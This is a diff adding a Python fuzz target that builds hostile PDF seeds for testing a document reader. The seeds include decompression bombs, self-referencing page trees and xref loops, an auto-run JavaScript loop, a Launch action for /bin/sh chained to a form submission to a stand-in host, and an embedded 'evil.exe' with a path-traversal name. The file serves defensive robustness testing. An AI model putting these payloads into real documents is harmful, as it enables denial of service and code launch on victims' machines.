@@ -1,0 +1,158 @@
+"""PDF files, among them hostile ones: loops, bombs, lies about sizes, scripts, embedded files, encryption."""
+
+import random
+import zlib
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+from bench._pdf_make import line, pdf, written
+
+from fuzz.target import Target, words
+from fuzz.targets.reading import check_reader
+from gristmill.stages.ingest import pdf as reader
+
+TEXT = line(60, 700, "The stones of the mill turn day and night.") + line(60, 680, "They grind 24 sacks of corn.")
+MORE = line(60, 700, "In autumn the river is high, and the wheel turns fast.") + line(
+    60, 500, "Flour is sold by weight."
+)
+BOMB_BYTES = 100_000_000
+MANY_PAGES = 10_000
+
+
+def _stream(content: bytes, entries: bytes = b"") -> bytes:
+    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), entries, content)
+
+
+def _document(contents: bytes, page: bytes = b"", more: tuple[bytes, ...] = (), pages: bytes = b"") -> bytes:
+    """One page; its content is object 4, its font 5, and `more` begin at 6."""
+    return written(
+        [
+            b"<</Type/Catalog/Pages 2 0 R>>",
+            pages or b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
+            b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>"
+            b"/MediaBox[0 0 612 792]%s>>" % page,
+            contents,
+            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
+            *more,
+        ]
+    )
+
+
+def _bomb(filters: int) -> bytes:
+    content = b" " * BOMB_BYTES
+    for _ in range(filters):
+        content = zlib.compress(content, 9)
+    return _document(_stream(content, b"/Filter[%s]" % (b"/FlateDecode " * filters)))
+
+
+def _form(content: bytes, entries: bytes = b"") -> bytes:
+    return _stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]%s" % entries)
+
+
+def _many_pages() -> bytes:
+    """Pages that share one object: 10,000 of them in 100 kB."""
+    kids = b"3 0 R " * MANY_PAGES
+    return _document(_stream(TEXT), pages=b"<</Type/Pages/Count %d/Kids[%s]>>" % (MANY_PAGES, kids))
+
+
+def _xref_loop() -> bytes:
+    whole = _document(_stream(TEXT))
+    start = whole.rindex(b"xref\n0")
+    return whole.replace(b"trailer<<", b"trailer<</Prev %d" % start, 1)
+
+
+def _wide_glyphs() -> bytes:
+    """Positions that overflow numbers."""
+    rows = (
+        b"BT/F %d Tf %d %d Td(far)Tj ET" % (size, at, at) for size, at in ((1, 10**9), (10**6, -(10**9)), (0, 10**12))
+    )
+    return _document(_stream(TEXT + b"\n".join(rows)))
+
+
+HOSTILE: dict[str, Callable[[], bytes]] = {
+    "a page tree that contains itself": lambda: _document(
+        _stream(TEXT), pages=b"<</Type/Pages/Count 9/Kids[3 0 R 2 0 R 2 0 R]>>"
+    ),
+    "a parent that is its own child": lambda: _document(_stream(TEXT), page=b"/Kids[3 0 R]/Type/Pages/Count 1"),
+    "an xref table whose predecessor is itself": _xref_loop,
+    "a form that draws itself": lambda: _document(
+        _stream(TEXT + b"/X Do"), more=(_form(b"/X Do /X Do", b"/Resources<</XObject<</X 6 0 R>>>>"),)
+    ),
+    "forms that draw forms, a billion times": lambda: _document(
+        _stream(b"/X Do"),
+        more=(
+            *(_form(b"/X Do " * 10, b"/Resources<</XObject<</X %d 0 R>>>>" % (7 + depth)) for depth in range(9)),
+            _form(TEXT, b"/Resources<</Font<</F 5 0 R>>>>"),
+        ),
+    ),
+    "a stream of 100 MB in 100 kB": lambda: _bomb(1),
+    "a stream of 100 MB packed twice": lambda: _bomb(2),
+    "a stream whose length is its own": lambda: _document(b"<</Length 4 0 R>>stream\n%s\nendstream" % TEXT),
+    "a length that lies": lambda: _document(b"<</Length 99999999>>stream\n%s\nendstream" % TEXT),
+    "an object stream that names itself": lambda: _document(
+        _stream(TEXT), more=(_stream(b"6 0 7 9 <<>> <<>>", b"/Type/ObjStm/N 99999999/First 8/Extends 6 0 R"),)
+    ),
+    "10,000 pages": _many_pages,
+    "a count of pages that lies": lambda: _document(
+        _stream(TEXT), pages=b"<</Type/Pages/Count 2147483647/Kids[3 0 R]>>"
+    ),
+    "a page of a billion points": lambda: _document(_stream(TEXT), page=b"/MediaBox[0 0 1e9 1e9]/UserUnit 1e9"),
+    "a page of no size": lambda: _document(_stream(TEXT), page=b"/MediaBox[0 0 0 0]/CropBox[9 9 1 1]/Rotate 45"),
+    "glyphs far away": _wide_glyphs,
+    "a script that runs at opening": lambda: pdf(
+        [TEXT], catalog=b"/OpenAction<</S/JavaScript/JS(while\\(1\\){app.alert\\(1\\)})>>/AA<</WC 7 0 R>>"
+    ),
+    "a program to start and an address to send to": lambda: pdf(
+        [TEXT], catalog=b"/OpenAction<</S/Launch/F(/bin/sh)/Next<</S/SubmitForm/F(http://a.example/)>>>>"
+    ),
+    "an embedded file": lambda: pdf(
+        [TEXT],
+        (_stream(b"MZ evil", b"/Type/EmbeddedFile"), b"<</Type/Filespec/F(../../evil.exe)/EF<</F 7 0 R>>>>"),
+        b"/Names<</EmbeddedFiles<</Names[(a) 8 0 R]>>>>",
+    ),
+    "encrypted with a password": lambda: pdf([TEXT]).replace(
+        b"trailer<<",
+        b"trailer<</Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%s>/U<%s>>>/ID[<00><00>]" % (b"11" * 32, b"22" * 32),
+    ),
+    "an unknown encryption": lambda: pdf([TEXT]).replace(b"trailer<<", b"trailer<</Encrypt<</Filter/Mill/V 9>>"),
+    "dictionaries in dictionaries": lambda: _document(_stream(TEXT), page=b"/A" + b"<</A" * 50_000 + b">>" * 50_000),
+    "brackets without end": lambda: _document(_stream(b"[" * 100_000 + b"(" * 100_000 + TEXT)),
+    "states that are never restored": lambda: _document(_stream(b"q " * 100_000 + TEXT)),
+    "a million glyphs at one place": lambda: _document(
+        _stream(b"BT/F 9 Tf 60 700 Td" + b"(a)Tj 0 0 Td " * 100_000 + b"ET")
+    ),
+    "only the beginning": lambda: pdf([TEXT])[:60],
+    "only the name of the format": lambda: b"%PDF-1.7",
+    "a good file": lambda: pdf([TEXT, MORE]),
+}
+"""By what is wrong with it: a file."""
+
+
+def _seeds() -> Iterator[bytes]:
+    yield pdf([TEXT, MORE])
+    for name, make in HOSTILE.items():
+        if "100 MB" not in name and name != "10,000 pages":
+            yield make()
+
+
+def _check(data: bytes, folder: Path) -> None:
+    check_reader(reader, data, folder, "x.pdf", max_record_bytes=1 << 20, max_pages=50)
+
+
+def _flip(draw: random.Random, data: bytes) -> bytes:
+    """A number that is another one: sizes, offsets and references lie."""
+    digits = [place for place, byte in enumerate(data) if 48 <= byte <= 57]
+    if not digits:
+        return data
+    changed = bytearray(data)
+    for place in draw.choices(digits, k=draw.randint(1, 5)):
+        changed[place] = draw.randint(48, 57)
+    return bytes(changed)
+
+
+_WORDS = words(
+    b"obj|endobj|stream\n|\nendstream|xref\n|trailer|startxref\n|<<|>>|[|]|/Type/Page|/Type/Pages|/Kids[3 0 R]"
+    b"|/Count -1|/Length 4 0 R|/Filter/FlateDecode|/Filter/LZWDecode|/Filter/JBIG2Decode|/ObjStm|/Encrypt|/Prev 9|1 0 R"
+    b"|/Contents|/MediaBox[0 0 1e9 1e9]|BT|ET|Tj|TJ|/F 9 Tf|1e38 0 0 1e38 0 0 cm|Do|BI|ID|EI|%%EOF"
+)
+TARGETS = [Target("pdf", _seeds, _check, _WORDS, (_flip,))]
